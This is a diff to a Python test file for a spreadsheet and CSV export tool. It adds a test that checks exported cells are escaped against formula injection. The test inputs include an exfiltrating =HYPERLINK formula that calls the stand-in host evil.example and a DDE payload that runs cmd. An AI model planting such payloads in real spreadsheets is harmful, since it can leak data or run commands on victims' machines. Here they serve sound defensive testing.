@@ -9,6 +9,7 @@ import re
 import unicodedata
 from urllib.parse import parse_qs, urlparse
 
+import openpyxl
 import pandas as pd
 import pytest
 import zxingcpp
@@ -90,6 +91,33 @@ def test_spreadsheets_hold_the_area_rows(catalog) -> None:
     )  # fmt: skip
     assert list(book) == ["indicators", "enterprises"]
     assert "重庆齿轮箱" in set(book["enterprises"]["name_zh"])
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def test_no_exported_cell_is_a_formula_and_negative_numbers_stay_numbers(catalog) -> None:
+    jiangjin = tuple(catalog.enterprises.index[catalog.enterprises["area"] == "jiangjin"])
+    ents = enterprises_frame(jiangjin, catalog.enterprises).copy()
+    ents.loc[0, "name_zh"], ents.loc[0, "role_zh"], ents.loc[1, "name_en"] = HYPERLINK, DDE, "@SUM(1+1)"
+    inds = indicators_frame("jiangjin", catalog.indicators).copy()
+    inds.loc[0, "name_zh"], inds.loc[0, "target_value"], inds.loc[1, "quote_zh"] = "+1+1", -5.0, "-2+3"
+    book = openpyxl.load_workbook(io.BytesIO(to_excel({"indicators": inds, "enterprises": ents})))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert {"'" + HYPERLINK, "'" + DDE, "'@SUM(1+1)", "'+1+1", "'-2+3"} <= values
+    target = book["indicators"].cell(row=2, column=list(inds.columns).index("target_value") + 1)
+    assert target.value == -5 and target.data_type == "n"
+
+    for frame, name in ((ents, HYPERLINK), (inds, "+1+1")):
+        text = to_csv(frame).decode("utf-8-sig")
+        read = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+        assert not any(v.startswith(("=", "+", "-", "@")) and not v.lstrip("-").replace(".", "").isdigit()
+                       for v in read.to_numpy().ravel())  # fmt: skip
+        assert "'" + name in set(read.to_numpy().ravel())
+    assert pd.read_csv(io.BytesIO(to_csv(inds)), encoding="utf-8-sig")["target_value"].iloc[0] == -5.0
 
 
 def _brief(catalog, area: str = "jiangjin") -> str:
